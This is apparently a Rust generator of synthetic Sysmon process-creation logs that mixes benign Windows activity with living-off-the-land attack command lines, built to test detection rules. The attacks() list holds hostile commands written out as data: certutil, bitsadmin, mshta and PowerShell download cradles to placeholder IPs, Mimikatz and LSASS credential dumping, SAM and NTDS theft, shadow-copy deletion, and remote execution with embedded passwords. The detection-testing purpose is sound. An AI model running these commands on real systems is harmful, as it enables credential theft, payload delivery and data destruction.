//! A deterministic generator of realistic Sysmon process-creation events
//! (EventID 1) as flat JSON lines, for the side-by-side comparison: 99.5%
//! everyday benign activity of an MSP-managed Windows estate, 0.5%
//! living-off-the-land attacks of the kind in ../shared/DESIGN.md.
//!
//! Every event has the fields Sigma process_creation rules read: Image,
//! CommandLine, ParentImage, ParentCommandLine, OriginalFileName, Product,
//! Company, Description, FileVersion, User, IntegrityLevel, Hashes,
//! CurrentDirectory, LogonId, ... and the same seed gives the same lines.

use std::io::{self, Write};

use crate::Rng;

/// One executable: path and PE metadata as Sysmon reports them.
struct Exe {
    image: &'static str,
    original: &'static str,
    description: &'static str,
    product: &'static str,
    company: &'static str,
    version: &'static str,
}

const MS: &str = "Microsoft Corporation";
const WINDOWS: &str = "Microsoft® Windows® Operating System";
const WINVER: &str = "10.0.20348.1 (WinBuild.160101.0800)";

const fn ms(image: &'static str, original: &'static str, description: &'static str) -> Exe {
    Exe {
        image,
        original,
        description,
        product: WINDOWS,
        company: MS,
        version: WINVER,
    }
}

const EXPLORER: Exe = ms(r"C:\Windows\explorer.exe", "EXPLORER.EXE", "Windows Explorer");
const SERVICES: Exe = ms(r"C:\Windows\System32\services.exe", "services.exe", "Services and Controller app");
const SVCHOST: Exe = ms(r"C:\Windows\System32\svchost.exe", "svchost.exe", "Host Process for Windows Services");
const CMD: Exe = ms(r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "Windows Command Processor");
const POWERSHELL: Exe = ms(
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    "PowerShell.EXE",
    "Windows PowerShell",
);
const WMIPRVSE: Exe = ms(r"C:\Windows\System32\wbem\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host");
const RMM_AGENT: Exe = Exe {
    image: r"C:\Program Files (x86)\RMM Agent\AgentService.exe",
    original: "AgentService.exe",
    description: "RMM Agent Service",
    product: "RMM Agent",
    company: "Example RMM Ltd",
    version: "24.3.1.12",
};

/// Benign activity: (weight, executable, parent, command-line templates).
/// Templates take `{user}`, `{n}`, `{hex}`, `{host}`, `{file}` and `{pid}`.
type Activity = (u32, Exe, &'static Exe, &'static [&'static str]);

fn benign() -> Vec<Activity> {
    vec![
        (14, Exe { image: r"C:\Program Files\Google\Chrome\Application\chrome.exe", original: "chrome.exe", description: "Google Chrome", product: "Google Chrome", company: "Google LLC", version: "131.0.6778.86" }, &EXPLORER, &[
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle={n},i,{hex} --renderer-client-id={n} /prefetch:1"#,
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} /prefetch:8"#,
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --field-trial-handle={n},i,{hex} /prefetch:2"#,
        ]),
        (10, Exe { image: r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", original: "msedge.exe", description: "Microsoft Edge", product: "Microsoft Edge", company: MS, version: "131.0.2903.70" }, &EXPLORER, &[
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id={n} /prefetch:1"#,
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://contoso.sharepoint.com/sites/IT/Shared%20Documents/{file}.docx"#,
        ]),
        (8, ms(r"C:\Windows\System32\svchost.exe", "svchost.exe", "Host Process for Windows Services"), &SERVICES, &[
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
            r"C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
            r"C:\Windows\System32\svchost.exe -k wsappx -p -s AppXSvc",
            r"C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{hex}",
        ]),
        (4, ms(r"C:\Windows\System32\conhost.exe", "CONHOST.EXE", "Console Window Host"), &CMD, &[
            r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        ]),
        (6, Exe { image: r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", original: "Outlook.exe", description: "Microsoft Outlook", product: "Microsoft Outlook", company: MS, version: "16.0.17928.20216" }, &EXPLORER, &[
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /restore"#,
        ]),
        (5, Exe { image: r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", original: "Excel.exe", description: "Microsoft Excel", product: "Microsoft Office", company: MS, version: "16.0.17928.20216" }, &EXPLORER, &[
            r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{user}\Documents\{file}.xlsx""#,
        ]),
        (5, Exe { image: r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe", original: "Teams.exe", description: "Microsoft Teams", product: "Microsoft Teams", company: MS, version: "1.7.00.13456" }, &EXPLORER, &[
            r#""C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle={n},{hex} /prefetch:1"#,
            r#""C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --process-start-args "--system-initiated""#,
        ]),
        (3, ms(r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "Windows Command Processor"), &RMM_AGENT, &[
            r#"C:\Windows\system32\cmd.exe /c "C:\ProgramData\RMM\scripts\disk_check_{n}.cmd""#,
            r#"C:\Windows\system32\cmd.exe /c "C:\ProgramData\RMM\scripts\patch_status.cmd" > C:\ProgramData\RMM\logs\{n}.log"#,
            r"C:\Windows\system32\cmd.exe /c ver",
        ]),
        (2, POWERSHELL, &RMM_AGENT, &[
            r"powershell.exe -NoProfile -NonInteractive -Command Get-Service -Name Spooler",
            r#"powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File "C:\ProgramData\RMM\scripts\inventory_{n}.ps1""#,
            r"powershell.exe -NoLogo -Command Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 5",
        ]),
        (4, ms(r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks"), &SVCHOST, &[
            r"taskhostw.exe {hex}",
            r"taskhostw.exe Install $(Arg0)",
        ]),
        (4, ms(r"C:\Windows\System32\RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker"), &SVCHOST, &[
            r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
        ]),
        (3, ms(r"C:\Windows\System32\backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host"), &SVCHOST, &[
            r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider"#,
        ]),
        (1, ms(r"C:\Windows\System32\ipconfig.exe", "ipconfig.exe", "IP Configuration Utility"), &CMD, &[
            r"ipconfig /all",
            r"ipconfig /flushdns",
        ]),
        (3, ms(r"C:\Windows\System32\gpupdate.exe", "GPUpdate.exe", "Microsoft® Windows Group Policy Update Utility"), &SVCHOST, &[
            r"gpupdate.exe /target:computer /force",
        ]),
        (3, ms(r"C:\Windows\System32\SearchProtocolHost.exe", "searchprotocolhost.exe", "Microsoft Windows Search Protocol Host"), &SVCHOST, &[
            r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon""#,
        ]),
        (3, Exe { image: r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe", original: "MsMpEng.exe", description: "Antimalware Service Executable", product: WINDOWS, company: MS, version: "4.18.24090.11" }, &SERVICES, &[
            r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe""#,
        ]),
        (2, ms(r"C:\Windows\System32\certutil.exe", "CertUtil.exe", "CertUtil.exe"), &CMD, &[
            r"certutil -hashfile C:\Users\{user}\Downloads\{file}.msi SHA256",
            r"certutil -store -user My",
        ]),
        (1, ms(r"C:\Windows\System32\msiexec.exe", "msiexec.exe", "Windows® installer"), &SERVICES, &[
            r"C:\Windows\system32\msiexec.exe /V",
            r#""C:\Windows\System32\msiexec.exe" /i "C:\ProgramData\RMM\packages\{file}.msi" /qn /norestart"#,
        ]),
        (1, ms(r"C:\Windows\System32\net.exe", "net.exe", "Net Command"), &CMD, &[
            r"net time \\CD-DC01",
            r"net start",
        ]),
        (2, ms(r"C:\Windows\System32\tasklist.exe", "tasklist.exe", "Lists the current running tasks."), &CMD, &[
            r"tasklist /svc /fo csv",
        ]),
        (2, ms(r"C:\Windows\System32\notepad.exe", "NOTEPAD.EXE", "Notepad"), &EXPLORER, &[
            r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{user}\Desktop\{file}.txt"#,
        ]),
        (2, ms(r"C:\Windows\System32\mmc.exe", "MMC.EXE", "Microsoft Management Console"), &EXPLORER, &[
            r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\eventvwr.msc" /s"#,
            r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\services.msc""#,
        ]),
        (2, ms(r"C:\Windows\System32\wuauclt.exe", "wuauclt.exe", "Windows Update"), &SVCHOST, &[
            r"C:\Windows\system32\wuauclt.exe /RunHandlerComServer",
        ]),
        (2, ms(r"C:\Windows\System32\dllhost.exe", "dllhost.exe", "COM Surrogate"), &SVCHOST, &[
            r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}",
        ]),
        (1, ms(r"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami - displays logged on user information"), &CMD, &[
            r"whoami",
        ]),
        (1, ms(r"C:\Windows\System32\robocopy.exe", "robocopy.exe", "Microsoft Robocopy"), &CMD, &[
            r"robocopy C:\Users\{user}\Documents \\CD-FS01\home$\{user}\Documents /MIR /R:1 /W:1 /NP /LOG:C:\ProgramData\RMM\logs\backup_{n}.log",
        ]),
    ]
}

/// Living-off-the-land attacks (APT10-style, against an MSP and its clients).
fn attacks() -> Vec<(Exe, &'static Exe, &'static str)> {
    vec![
        (ms(r"C:\Windows\System32\certutil.exe", "CertUtil.exe", "CertUtil.exe"), &CMD, r"certutil -urlcache -split -f http://198.51.100.{n}/t.exe C:\ProgramData\t.exe"),
        (ms(r"C:\Windows\System32\certutil.exe", "CertUtil.exe", "CertUtil.exe"), &CMD, r"certutil -decode C:\Users\Public\p.txt C:\Users\Public\p.exe"),
        (ms(r"C:\Windows\System32\reg.exe", "reg.exe", "Registry Console Tool"), &CMD, r"reg save HKLM\SAM C:\Windows\Temp\sam.save"),
        (ms(r"C:\Windows\System32\reg.exe", "reg.exe", "Registry Console Tool"), &CMD, r"reg save HKLM\SYSTEM C:\Windows\Temp\sys.save /y"),
        (ms(r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)"), &POWERSHELL, r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {pid} C:\temp\l.dmp full"),
        (ms(r"C:\Windows\System32\ntdsutil.exe", "ntdsutil.exe", "NT5DS"), &CMD, r#"ntdsutil "ac i ntds" "ifm" "create full c:\temp\ifm" q q"#),
        (ms(r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service "), &CMD, r"vssadmin create shadow /for=C:"),
        (ms(r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service "), &CMD, r"vssadmin.exe delete shadows /all /quiet"),
        (ms(r"C:\Windows\System32\net.exe", "net.exe", "Net Command"), &CMD, r"net use \\10.20.{n}.5\C$ /user:CONTOSO\svc-backup Winter2026!"),
        (ms(r"C:\Windows\System32\net.exe", "net.exe", "Net Command"), &CMD, r#"net group "Domain Admins" /domain"#),
        (ms(r"C:\Windows\System32\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool"), &CMD, r#"schtasks /create /s 10.20.{n}.12 /u CONTOSO\admin /p P@ssw0rd1 /tn "\Microsoft\Windows\Update" /tr "C:\Windows\Temp\u.exe" /sc once /st 23:00 /ru SYSTEM"#),
        (ms(r"C:\Windows\System32\bitsadmin.exe", "bitsadmin.exe", "BITS administration utility"), &CMD, r"bitsadmin /transfer job{n} /download /priority high http://203.0.113.{n}/a.exe C:\Users\Public\a.exe"),
        (ms(r"C:\Windows\System32\mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host"), &EXPLORER, r"mshta.exe http://203.0.113.{n}/payload.hta"),
        (ms(r"C:\Windows\System32\regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server"), &CMD, r"regsvr32 /s /n /u /i:http://203.0.113.{n}/file.sct scrobj.dll"),
        (ms(r"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe", "WMI Commandline Utility"), &CMD, r#"wmic /node:10.20.{n}.7 /user:CONTOSO\admin /password:P@ssw0rd1 process call create "cmd.exe /c whoami > C:\temp\o.txt""#),
        (ms(r"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe", "WMI Commandline Utility"), &CMD, r"wmic shadowcopy delete"),
        (ms(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "Windows PowerShell"), &WMIPRVSE, r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA="),
        (ms(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "Windows PowerShell"), &CMD, r"powershell -ep bypass -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{n}/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds"),
        (ms(r"C:\Windows\System32\nltest.exe", "nltestrk.exe", "Microsoft® Logon Server Test Utility"), &CMD, r"nltest /domain_trusts /all_trusts"),
        (ms(r"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami - displays logged on user information"), &WMIPRVSE, r"whoami /all"),
        (Exe { image: r"C:\Users\Public\psexec.exe", original: "psexec.c", description: "Execute processes remotely", product: "Sysinternals PsExec", company: "Sysinternals - www.sysinternals.com", version: "2.43" }, &CMD, r"psexec.exe \\10.20.{n}.9 -accepteula -s -u CONTOSO\admin -p P@ssw0rd1 cmd.exe /c C:\Windows\Temp\r.bat"),
        (Exe { image: r"C:\Users\Public\procdump64.exe", original: "procdump", description: "Sysinternals process dump utility", product: "ProcDump", company: "Sysinternals - www.sysinternals.com", version: "11.0" }, &CMD, r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\ls.dmp"),
        (Exe { image: r"C:\Users\Public\rar.exe", original: "Rar.exe", description: "Command line RAR", product: "WinRAR", company: "Alexander Roshal", version: "6.24.0" }, &CMD, r"rar.exe a -r -m5 -hpS3cr3t! C:\Users\Public\d{n}.rar \\CD-FS01\finance$\*.xlsx"),
        (ms(r"C:\Windows\System32\cmd.exe", "Cmd.Exe", "Windows Command Processor"), &WMIPRVSE, r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__{n}.{hex} 2>&1"),
        (ms(r"C:\Windows\System32\msbuild.exe", "MSBuild.exe", "MSBuild.exe"), &CMD, r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\msbuild.exe C:\Users\Public\b.xml"),
        (ms(r"C:\Windows\System32\sc.exe", "sc.exe", "Service Control Manager Configuration Tool"), &CMD, r#"sc \\10.20.{n}.3 create upd binPath= "C:\Windows\Temp\u.exe" start= auto"#),
    ]
}

const USERS: &[&str] = &["alice", "bob", "carol", "dave", "erin", "svc-rmm", "admin.frank"];
const HOSTS: &[&str] = &[
    "CD-WS014.contoso.local",
    "CD-WS022.contoso.local",
    "CD-WS031.contoso.local",
    "CD-FS01.contoso.local",
    "CD-DC01.contoso.local",
    "MSP-JUMP02.msp.example",
];
const FILES: &[&str] = &["report_q3", "budget", "invoice_4411", "minutes", "setup", "handover"];

/// A stable pseudo-hash of `s` as `len` hex digits (for Hashes).
fn hex_of(s: &str, salt: u64, len: usize) -> String {
    let mut rng = Rng::new(s.bytes().fold(salt ^ 0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
    }));
    let mut out = String::with_capacity(len);
    while out.len() < len {
        out.push_str(&format!("{:016X}", rng.next_u64()));
    }
    out.truncate(len);
    out
}

/// Fills a template's placeholders.
fn fill(template: &str, rng: &mut Rng, user: &str, host: &str) -> String {
    let mut out = template.replace("{user}", user).replace("{host}", host);
    while let Some(at) = out.find("{n}") {
        let v = (rng.next_u64() % 250 + 2).to_string();
        out.replace_range(at..at + 3, &v);
    }
    while let Some(at) = out.find("{hex}") {
        let v = format!("{:x}", rng.next_u64() & 0xff_ffff);
        out.replace_range(at..at + 5, &v);
    }
    while let Some(at) = out.find("{pid}") {
        let v = (rng.next_u64() % 9000 + 400).to_string();
        out.replace_range(at..at + 5, &v);
    }
    while let Some(at) = out.find("{file}") {
        let v = rng.pick(FILES).to_string();
        out.replace_range(at..at + 6, &v);
    }
    out
}

/// Writes `n` events as JSON lines to `out`; returns how many are attacks.
/// One in 200 events (0.5%) is an attack, at a deterministic random position.
pub fn write_process_events<W: Write>(out: &mut W, n: usize, seed: u64) -> io::Result<usize> {
    let mut rng = Rng::new(seed);
    let benign = benign();
    let total_weight: u32 = benign.iter().map(|a| a.0).sum();
    let attacks = attacks();
    let mut attack_count = 0;
    for i in 0..n {
        let user_name = rng.pick(USERS);
        let host = rng.pick(HOSTS);
        let (exe, parent, cmd) = if rng.next_u64().is_multiple_of(200) {
            attack_count += 1;
            let (exe, parent, t) = &attacks[(rng.next_u64() % attacks.len() as u64) as usize];
            (exe, *parent, fill(t, &mut rng, user_name, host))
        } else {
            let mut w = (rng.next_u64() % u64::from(total_weight)) as u32;
            let mut chosen = &benign[0];
            for a in &benign {
                if w < a.0 {
                    chosen = a;
                    break;
                }
                w -= a.0;
            }
            let t = rng.pick(chosen.3);
            (&chosen.1, chosen.2, fill(t, &mut rng, user_name, host))
        };
        let image = exe.image.replace("{user}", user_name);
        let system = parent.image == SERVICES.image || parent.image == SVCHOST.image || parent.image == RMM_AGENT.image;
        let user = if system {
            "NT AUTHORITY\\SYSTEM".to_string()
        } else {
            format!("CONTOSO\\{user_name}")
        };
        let integrity = if system { "System" } else if user_name.starts_with("admin") { "High" } else { "Medium" };
        let parent_cmd = match parent.image {
            i if i == EXPLORER.image => r"C:\Windows\Explorer.EXE".to_string(),
            i if i == SERVICES.image => r"C:\Windows\system32\services.exe".to_string(),
            i if i == SVCHOST.image => r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule".to_string(),
            i if i == CMD.image => r#"C:\Windows\system32\cmd.exe /c "C:\Users\Public\run.cmd""#.to_string(),
            i if i == WMIPRVSE.image => r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding".to_string(),
            i if i == POWERSHELL.image => "powershell.exe -NoProfile".to_string(),
            _ => format!("\"{}\"", parent.image),
        };
        let cwd = if system {
            r"C:\Windows\system32\".to_string()
        } else {
            format!(r"C:\Users\{user_name}\")
        };
        let secs = i as u64 / 20;
        let ev = serde_json::json!({
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "Computer": host,
            "RuleName": "-",
            "UtcTime": format!(
                "2026-11-{:02} {:02}:{:02}:{:02}.{:03}",
                3 + secs / 86_400 % 25,
                secs / 3600 % 24,
                secs / 60 % 60,
                secs % 60,
                rng.next_u64() % 1000
            ),
            "ProcessGuid": format!("{{5AA13A44-D441-68FC-{:04X}-{:012X}}}", i % 65536, rng.next_u64() & 0xffff_ffff_ffff),
            "ProcessId": 400 + rng.next_u64() % 30000,
            "Image": image,
            "FileVersion": exe.version,
            "Description": exe.description,
            "Product": exe.product,
            "Company": exe.company,
            "OriginalFileName": exe.original,
            "CommandLine": cmd,
            "CurrentDirectory": cwd,
            "User": user,
            "LogonGuid": format!("{{5AA13A44-D440-68FC-{:04X}-000000000000}}", rng.next_u64() & 0xffff),
            "LogonId": format!("0x{:X}", 0x3e7 + (rng.next_u64() % 4) * 0x1_0000),
            "TerminalSessionId": u64::from(!system),
            "IntegrityLevel": integrity,
            "Hashes": format!(
                "SHA1={},MD5={},SHA256={},IMPHASH={}",
                hex_of(exe.image, 1, 40),
                hex_of(exe.image, 2, 32),
                hex_of(exe.image, 3, 64),
                hex_of(exe.image, 4, 32)
            ),
            "ParentProcessGuid": format!("{{5AA13A44-D43F-68FC-{:04X}-000000004002}}", rng.next_u64() & 0xffff),
            "ParentProcessId": 300 + rng.next_u64() % 30000,
            "ParentImage": parent.image,
            "ParentCommandLine": parent_cmd,
            "ParentUser": if system { "NT AUTHORITY\\SYSTEM".to_string() } else { user.clone() },
        });
        writeln!(out, "{ev}")?;
    }
    Ok(attack_count)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_mostly_benign() {
        let mut a = Vec::new();
        let mut b = Vec::new();
        let attacks = write_process_events(&mut a, 4000, 9).expect("in memory");
        write_process_events(&mut b, 4000, 9).expect("in memory");
        assert_eq!(a, b);
        assert!((5..=40).contains(&attacks), "{attacks} attacks in 4000");
        let text = String::from_utf8(a).expect("UTF-8");
        assert_eq!(text.lines().count(), 4000);
        for line in text.lines().take(50) {
            let v: serde_json::Value = serde_json::from_str(line).expect("JSON");
            assert_eq!(v["EventID"], 1);
            let cmd = v["CommandLine"].as_str().expect("CommandLine");
            for p in ["{n}", "{hex}", "{pid}", "{file}", "{user}"] {
                assert!(!cmd.contains(p) && !line.contains(p), "{p} left in {line}");
            }
        }
    }
}
